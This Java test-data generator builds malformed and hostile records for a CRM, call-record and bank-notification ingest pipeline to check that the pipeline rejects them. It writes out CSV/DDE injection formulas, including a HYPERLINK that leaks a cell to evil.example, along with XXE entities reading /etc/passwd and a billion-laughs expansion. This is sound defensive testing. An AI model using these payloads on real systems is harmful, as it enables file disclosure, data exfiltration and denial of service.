package org.salesops.jobs.generator;

import java.math.BigDecimal;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.salesops.jobs.generator.HostileInput.Outcome;
import org.salesops.pipelines.bank.BankTransaction;
import org.salesops.pipelines.bank.Camt054Writer;
import org.salesops.pipelines.calls.AsteriskCdrWriter;
import org.salesops.pipelines.calls.CallRecord;
import org.salesops.pipelines.calls.TwilioCallWriter;
import org.salesops.pipelines.crm.CrmChange;
import org.salesops.pipelines.crm.CrmChangeWriter;
import org.salesops.pipelines.crm.CrmTopics;

/**
 * A seeded corpus of malformed and hostile records for all three input families, each built from a
 * valid record of the real wire format (Debezium JSON, Asterisk cdr_csv and Twilio JSON, camt.054)
 * with one thing made wrong or hostile: truncated, wrong types, huge fields, wrong encodings, XML
 * external entities and entity expansion, spreadsheet formulas (CSV injection), unknown enum values,
 * clock-skewed timestamps, byte-identical re-deliveries and, at the end of each family, an
 * out-of-order flood. Each record says where it must end ({@link HostileInput.Outcome}).
 *
 * <p>Within a family, record times rise by a few seconds per record, so apart from the flood no record
 * is ever late; the flood runs backwards over three hours, beyond the allowed lateness.
 */
public final class HostileInputs {

    /** Rounds of every defect per family; each round draws new values, so no two records are alike. */
    public static final int DEFAULT_ROUNDS = 24;
    static final int FLOOD = 40;
    static final Duration FLOOD_SPAN = Duration.ofHours(3);
    /** Below Kafka's default message.max.bytes (1 MB): the largest field a default broker still delivers. */
    static final int HUGE = 900_000;
    /** Long but still text a field may hold (the ingest job refuses text over 65,536 characters). */
    static final int LARGE_CHARS = 60_000;

    private static final Instant START = Instant.parse("2026-03-02T01:00:00Z");
    private static final String OUR_ACCOUNT = "CN6210250001000123456789";
    private static final Charset GB18030 = Charset.forName("GB18030");
    /** Formulas a spreadsheet would execute if a cell began with them (OWASP CSV injection). */
    private static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
            "\t=1+1", "\r=1+1");

    private final Rng rng;
    private final CrmChangeWriter debezium = new CrmChangeWriter();
    private final TwilioCallWriter twilio = new TwilioCallWriter("AC5e1f3c2b9d8a7f6e5d4c3b2a1f0e9d8c");
    private final Camt054Writer camt = new Camt054Writer();
    private final Map<String, Instant> clocks = new HashMap<>();
    private final List<HostileInput> corpus = new ArrayList<>();
    private long ids = 880_000;

    public HostileInputs(long seed) {
        this.rng = new Rng(seed);
    }

    /** The corpus with {@link #DEFAULT_ROUNDS} rounds: over a thousand records. */
    public List<HostileInput> create() {
        return create(DEFAULT_ROUNDS);
    }

    /** Per family: {@code rounds} rounds of every defect, then the out-of-order flood. */
    public List<HostileInput> create(int rounds) {
        corpus.clear();
        clocks.clear();
        for (int round = 0; round < rounds; round++) {
            boolean huge = round < 2; // two of each huge field are enough and keep the corpus small in memory
            crmRound(huge);
            callRound(huge);
            bankRound(huge);
        }
        crmFlood();
        callFlood();
        bankFlood();
        return List.copyOf(corpus);
    }

    // ---------------------------------------------------------------- CRM: Debezium change events

    private void crmRound(boolean huge) {
        Instant at = tick(HostileInput.CRM);
        String valid = leadJson(lead(++ids, "张先生", "douyin", "new", at), at);
        crm("truncated", Outcome.REJECTED, "leads", ids, utf8(valid.substring(0, rng.between(10, valid.length() - 5))));
        crm("wrong-type-id", Outcome.REJECTED, "leads", ++ids,
                utf8(field(leadJson(lead(ids, "李女士", "expo", "new", at), at), "id", "\"L-" + ids + "\"")));
        crm("wrong-type-owner", Outcome.REJECTED, "leads", ++ids,
                utf8(field(leadJson(lead(ids, "王先生", "expo", "assigned", at), at), "owner_id", "\"王伟\"")));
        crm("wrong-type-time", Outcome.REJECTED, "leads", ++ids,
                utf8(field(leadJson(lead(ids, "赵女士", "website", "new", at), at), "created_at", "\"昨天下午三点\"")));
        crm("number-overflow", Outcome.REJECTED, "leads", ++ids,
                utf8(field(leadJson(lead(ids, "钱先生", "website", "new", at), at), "owner_id", "9" + rng.digits(30))));
        crm("deep-nesting", Outcome.REJECTED, "leads", ++ids, utf8(field(leadJson(lead(ids, "孙先生", "expo", "new", at), at),
                "contact_name", "[".repeat(5_000) + "]".repeat(5_000))));
        crm("unknown-op", Outcome.REJECTED, "leads", ++ids,
                utf8(leadJson(lead(ids, "周先生", "douyin", "new", at), at).replace("\"op\":\"c\"", "\"op\":\"x\"")));
        crm("unknown-table", Outcome.REJECTED, "sales_targets", ++ids,
                utf8(leadJson(lead(ids, "吴先生", "douyin", "new", at), at).replace("\"table\":\"leads\"", "\"table\":\"sales_targets\"")));
        crm("gb18030", Outcome.REJECTED, "leads", ++ids, leadJson(lead(ids, "张先生", "referral", "new", at), at).getBytes(GB18030));
        crm("binary-garbage", Outcome.REJECTED, "leads", ++ids, garbage());
        crm("empty-value", Outcome.REJECTED, "leads", ++ids, new byte[0]);
        // with neither key nor value, every tombstone-without-key is the same record: the later ones are re-deliveries
        boolean first = corpus.stream().noneMatch(i -> i.defect().equals("tombstone-without-key"));
        add(HostileInput.CRM, "tombstone-without-key", first ? Outcome.REJECTED : Outcome.DUPLICATE, CrmTopics.topic("leads"),
                at, null, null);
        crm("unknown-enum", Outcome.LOADED, "leads", ++ids, utf8(leadJson(lead(ids, "冯先生",
                rng.chance(0.5) ? "tiktok_live" : "抖音", rng.chance(0.5) ? "zombie" : "", at), at)));
        HostileInput injection = crm("csv-injection", Outcome.LOADED, "leads", ++ids, utf8(leadJson(lead(ids, formula(), "expo", "new", at), at)));
        crm("control-characters", Outcome.LOADED, "leads", ++ids,
                utf8(leadJson(lead(ids, "陈\u0000先生\u202E\u0007", "expo", "new", at), at)));
        crm("clock-skew-commit", Outcome.LOADED, "leads", ++ids, utf8(leadJson(lead(ids, "褚先生", "expo", "new", at),
                Instant.parse("2099-12-31T23:59:59Z"))));
        crm("clock-skew-beyond-any-database", Outcome.REJECTED, "leads", ++ids,
                utf8(field(leadJson(lead(ids, "卫先生", "expo", "new", at), at), "created_at", "\"+999999-12-31T23:59:59Z\"")));
        if (huge) {
            crm("huge-field", Outcome.REJECTED, "leads", ++ids, utf8(leadJson(lead(ids, "蒋" + "长".repeat(HUGE / 3), "expo", "new", at), at)));
            crm("large-field", Outcome.LOADED, "leads", ++ids, utf8(leadJson(lead(ids, "蒋" + "长".repeat(LARGE_CHARS), "expo", "new", at), at)));
        }
        duplicate(injection); // valid, so the copy is the one that must become the duplicate
    }

    private void crmFlood() {
        Instant last = tick(HostileInput.CRM);
        for (int i = 0; i < FLOOD; i++) {
            Instant at = last.minus(FLOOD_SPAN.multipliedBy(i).dividedBy(FLOOD));
            String json = leadJson(lead(++ids, "沈先生", "douyin", "new", at), at);
            add(HostileInput.CRM, "out-of-order-flood", Outcome.LOADED_OR_LATE, CrmTopics.topic("leads"), at,
                    utf8("{\"id\":" + ids + "}"), utf8(json));
        }
    }

    private Map<String, Object> lead(long id, String name, String channel, String status, Instant at) {
        Map<String, Object> row = new HashMap<>();
        row.put("id", id);
        row.put("contact_name", name);
        row.put("phone", "138" + rng.digits(8));
        row.put("channel", channel);
        row.put("status", status);
        row.put("created_at", at);
        row.put("updated_at", at);
        return row;
    }

    private String leadJson(Map<String, Object> after, Instant committedAt) {
        CrmChange change = new CrmChange("leads", "c", null, after, committedAt, committedAt.toEpochMilli(),
                (long) rng.between(90_000, 99_999));
        return new String(debezium.value(change, false, false), StandardCharsets.UTF_8);
    }

    /** Replaces the first value of a JSON field (a number, null or a string without quotes inside). */
    private static String field(String json, String name, String newValue) {
        String replaced = json.replaceFirst("\"" + name + "\":(\"[^\"]*\"|[^,}]*)",
                java.util.regex.Matcher.quoteReplacement("\"" + name + "\":" + newValue));
        if (replaced.equals(json)) {
            throw new IllegalStateException("no field " + name + " in " + json);
        }
        return replaced;
    }

    private HostileInput crm(String defect, Outcome expected, String table, long id, byte[] value) {
        return add(HostileInput.CRM, defect, expected, CrmTopics.topic(table), clocks.get(HostileInput.CRM),
                utf8("{\"id\":" + id + "}"), value);
    }

    // ---------------------------------------------------------------- calls: Asterisk cdr_csv and Twilio JSON

    private void callRound(boolean huge) {
        Instant at = tick(HostileInput.CALLS);
        String line = asterisk(call(at));
        call("truncated", Outcome.REJECTED, utf8(line.substring(0, rng.between(5, line.length() / 2))));
        String json = twilio.toJson(twilioCall(at));
        call("truncated-json", Outcome.REJECTED, utf8(json.substring(0, rng.between(2, json.length() - 2))));
        call("wrong-type-duration", Outcome.REJECTED, utf8(column(asterisk(call(at)), 12, "1分12秒")));
        call("wrong-type-time", Outcome.REJECTED, utf8(column(asterisk(call(at)), 9, "\"2026-13-45 25:61:00\"")));
        call("negative-duration", Outcome.REJECTED, utf8(column(asterisk(call(at)), 13, "-" + rng.between(1, 99))));
        call("unknown-enum", Outcome.REJECTED, utf8(column(asterisk(call(at)), 14, "\"EXPLODED\"")));
        call("unknown-enum-json", Outcome.REJECTED,
                utf8(twilio.toJson(twilioCall(at)).replaceFirst("\"status\":\"[a-z-]+\"", "\"status\":\"teleported\"")));
        call("gb18030", Outcome.REJECTED, column(asterisk(call(at)), 4, "\"\"\"销售部\"\" <8001>\"").getBytes(GB18030));
        call("deep-nesting-json", Outcome.REJECTED,
                utf8("{\"account_sid\":\"AC" + rng.hex(32) + "\",\"sid\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"));
        call("binary-garbage", Outcome.REJECTED, garbage());
        add(HostileInput.CALLS, "empty-value", Outcome.REJECTED, WireFormats.CALL_TOPIC, at, utf8("CA" + rng.hex(32)), new byte[0]);
        // the dialled number is kept as written (remote_number_raw), so that is where a formula can get through
        HostileInput injection = call("csv-injection", Outcome.LOADED, utf8(column(asterisk(call(at)), 2, csvQuoted(formula()))));
        call("clock-skew-payload", Outcome.LOADED, utf8(asterisk(call(at.atZone(ZoneOffset.UTC).plusYears(73).toInstant()))));
        if (huge) {
            call("huge-field", Outcome.REJECTED, utf8(column(asterisk(call(at)), 2, csvQuoted("1".repeat(HUGE)))));
            call("large-field", Outcome.LOADED, utf8(column(asterisk(call(at)), 2, csvQuoted("1".repeat(LARGE_CHARS)))));
        }
        duplicate(injection);
    }

    private void callFlood() {
        Instant last = tick(HostileInput.CALLS);
        for (int i = 0; i < FLOOD; i++) {
            Instant at = last.minus(FLOOD_SPAN.multipliedBy(i).dividedBy(FLOOD));
            CallRecord call = call(at.minusSeconds(65));
            add(HostileInput.CALLS, "out-of-order-flood", Outcome.LOADED_OR_LATE, WireFormats.CALL_TOPIC, at,
                    utf8(call.callId()), utf8(asterisk(call)));
        }
    }

    /** An answered outbound call of a rep that ends at {@code end}. */
    private CallRecord call(Instant end) {
        Instant start = end.minusSeconds(65);
        return new CallRecord("asterisk", start.getEpochSecond() + "." + rng.between(1, 999), start, start.plusSeconds(5),
                end, 65, 60, "outbound", "8001", null, "13800138000", "+8613800138000", "ANSWERED", true);
    }

    private CallRecord twilioCall(Instant end) {
        Instant start = end.minusSeconds(95);
        return new CallRecord("twilio", "CA" + rng.hex(32), start, start.plusSeconds(5), end, 95, 90, "outbound",
                null, "+8675526581234", "+8613800138000", "+8613800138000", "ANSWERED", true);
    }

    private static String asterisk(CallRecord call) {
        return AsteriskCdrWriter.format(call, "from-internal", "PJSIP");
    }

    /** Replaces one column (0-based) of a cdr_csv line written by {@link AsteriskCdrWriter}. */
    private static String column(String line, int index, String newValue) {
        List<int[]> spans = new ArrayList<>();
        int start = 0;
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (c == '"') {
                quoted = !quoted;
            } else if (c == ',' && !quoted) {
                spans.add(new int[] {start, i});
                start = i + 1;
            }
        }
        spans.add(new int[] {start, line.length()});
        int[] span = spans.get(index);
        return line.substring(0, span[0]) + newValue + line.substring(span[1]);
    }

    private static String csvQuoted(String text) {
        return "\"" + text.replace("\"", "\"\"") + "\"";
    }

    private HostileInput call(String defect, Outcome expected, byte[] value) {
        return add(HostileInput.CALLS, defect, expected, WireFormats.CALL_TOPIC, clocks.get(HostileInput.CALLS), null, value);
    }

    // ---------------------------------------------------------------- bank: camt.054 notifications

    private void bankRound(boolean huge) {
        Instant at = tick(HostileInput.BANK);
        String valid = notification(at, credit(at, "佛山市顺达建材有限公司", "货款"));
        bank("truncated", Outcome.REJECTED, utf8(valid.substring(0, rng.between(20, valid.length() - 10))));
        String secret = "file:///etc/passwd";
        bank("xxe-file", Outcome.REJECTED, utf8(withDoctype(notification(at, credit(at, "&xxe;", "货款")),
                "<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"" + secret + "\">]>")));
        bank("xxe-url", Outcome.REJECTED, utf8(withDoctype(notification(at, credit(at, "&xxe;", "货款")),
                "<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/" + rng.hex(8) + ".xml\">]>")));
        bank("xxe-parameter-entity", Outcome.REJECTED, utf8(withDoctype(notification(at, credit(at, "佛山", "货款")),
                "<!DOCTYPE Document [<!ENTITY % remote SYSTEM \"http://127.0.0.1:9/p.dtd\"> %remote;]>")));
        bank("external-dtd", Outcome.REJECTED, utf8(withDoctype(notification(at, credit(at, "佛山", "货款")),
                "<!DOCTYPE Document SYSTEM \"http://127.0.0.1:9/camt.dtd\">")));
        bank("billion-laughs", Outcome.REJECTED, utf8(withDoctype(notification(at, credit(at, "&lol9;", "货款")), laughs())));
        bank("xxe-utf16", Outcome.REJECTED, withDoctype(notification(at, credit(at, "&xxe;", "货款")),
                "<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"" + secret + "\">]>")
                .replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"").getBytes(StandardCharsets.UTF_16));
        bank("wrong-type-amount", Outcome.REJECTED, utf8(notification(at, credit(at, "佛山", "货款"))
                .replaceAll("<Amt Ccy=\"CNY\">([0-9]+)\\.([0-9]+)</Amt>", "<Amt Ccy=\"CNY\">$1.OO</Amt>")));
        bank("wrong-type-time", Outcome.REJECTED, utf8(notification(at, credit(at, "佛山", "货款"))
                .replaceFirst("<CreDtTm>[^<]*</CreDtTm>", "<CreDtTm>昨天</CreDtTm>")));
        bank("unknown-enum-direction", Outcome.REJECTED, utf8(notification(at, credit(at, "佛山", "货款"))
                .replace("<CdtDbtInd>CRDT</CdtDbtInd>", "<CdtDbtInd>SIDEWAYS</CdtDbtInd>")));
        bank("unknown-enum-status", Outcome.REJECTED, utf8(notification(at, credit(at, "佛山", "货款"))
                .replaceFirst("<Cd>BOOK</Cd>", "<Cd>MAYBE</Cd>")));
        bank("gb18030-declared-utf8", Outcome.REJECTED, notification(at, credit(at, "佛山市顺达建材有限公司", "货款"))
                .getBytes(GB18030));
        bank("gb18030-declared", Outcome.LOADED, notification(at, credit(at, "佛山市顺达建材有限公司", "货款"))
                .replace("encoding=\"UTF-8\"", "encoding=\"GB18030\"").getBytes(GB18030));
        bank("binary-garbage", Outcome.REJECTED, garbage());
        bank("empty-value", Outcome.REJECTED, new byte[0]);
        HostileInput injection = bank("csv-injection", Outcome.LOADED, utf8(notification(at, credit(at, formula(), formula()))));
        bank("clock-skew-payload", Outcome.LOADED, utf8(notification(at, credit(Instant.parse("2099-06-01T08:00:00Z"), "佛山", "货款"))));
        if (huge) {
            bank("deep-nesting", Outcome.REJECTED, utf8(notification(at, credit(at, "佛山", "货款"))
                    .replace("<Ustrd>货款</Ustrd>", "<Ustrd>" + "<x>".repeat(50_000) + "货款" + "</x>".repeat(50_000) + "</Ustrd>")));
            bank("huge-field", Outcome.REJECTED, utf8(notification(at, credit(at, "佛山", "货款" + "长".repeat(HUGE / 3)))));
            bank("large-field", Outcome.LOADED, utf8(notification(at, credit(at, "佛山", "货款" + "长".repeat(LARGE_CHARS)))));
        }
        duplicate(injection);
    }

    private void bankFlood() {
        Instant last = tick(HostileInput.BANK);
        for (int i = 0; i < FLOOD; i++) {
            Instant at = last.minus(FLOOD_SPAN.multipliedBy(i).dividedBy(FLOOD));
            String messageId = "HOSTILE" + rng.digits(12);
            add(HostileInput.BANK, "out-of-order-flood", Outcome.LOADED_OR_LATE, WireFormats.BANK_TOPIC, at,
                    utf8(messageId), utf8(camt.write(messageId, at, OUR_ACCOUNT, List.of(credit(at, "佛山", "货款")))));
        }
    }

    private BankTransaction credit(Instant bookedAt, String payer, String remittance) {
        String reference = "HOSTILE" + rng.digits(12);
        return new BankTransaction(reference, "camt.054.001.08", null, OUR_ACCOUNT,
                new BigDecimal(rng.between(1, 99_999) + "." + rng.digits(2)), "CNY",
                bookedAt.atZone(ZoneOffset.UTC).toLocalDate(), bookedAt.atZone(ZoneOffset.UTC).toLocalDate(), bookedAt,
                "BOOK", false, reference, null, payer, "6222" + rng.digits(12), remittance, null, List.of(), "PMNT/RCDT/DMCT");
    }

    private String notification(Instant createdAt, BankTransaction credit) {
        return camt.write("HOSTILE" + rng.digits(12), createdAt, OUR_ACCOUNT, List.of(credit));
    }

    /** Puts a document type declaration right after the XML declaration. */
    private static String withDoctype(String xml, String doctype) {
        int afterDeclaration = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, afterDeclaration) + "\n" + doctype + "\n" + xml.substring(afterDeclaration);
    }

    /** Ten levels of ten-fold entity expansion: 10^9 "lol"s, about 3 GB, from under a kilobyte. */
    private static String laughs() {
        StringBuilder doctype = new StringBuilder("<!DOCTYPE Document [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            doctype.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return doctype.append("]>").toString();
    }

    private HostileInput bank(String defect, Outcome expected, byte[] value) {
        return add(HostileInput.BANK, defect, expected, WireFormats.BANK_TOPIC, clocks.get(HostileInput.BANK),
                utf8("HOSTILE" + rng.digits(12)), value);
    }

    // ---------------------------------------------------------------- shared

    /** The family's record time moves on by a few seconds; every record of a round shares it. */
    private Instant tick(String family) {
        Instant next = clocks.getOrDefault(family, START).plusSeconds(rng.between(5, 60));
        clocks.put(family, next);
        return next;
    }

    private String formula() {
        return FORMULAS.get(rng.between(0, FORMULAS.size() - 1));
    }

    private byte[] garbage() {
        byte[] bytes = new byte[rng.between(1, 512)];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) rng.between(0, 255);
        }
        bytes[0] = (byte) 0xC0; // never valid UTF-8, never '{', '<' or a digit: no parser can take it for its own
        return bytes;
    }

    /** A byte-identical re-delivery of an earlier record (a connector retrying after a restart). */
    private void duplicate(HostileInput original) {
        WireRecord r = original.record();
        add(original.family(), "duplicate-of-" + original.defect(), Outcome.DUPLICATE, r.topic(),
                clocks.get(original.family()), r.key(), r.value());
    }

    private HostileInput add(String family, String defect, Outcome expected, String topic, Instant at, byte[] key,
                             byte[] value) {
        HostileInput input = new HostileInput(family, defect, expected, new WireRecord(topic, at.toEpochMilli(), key, value));
        corpus.add(input);
        return input;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
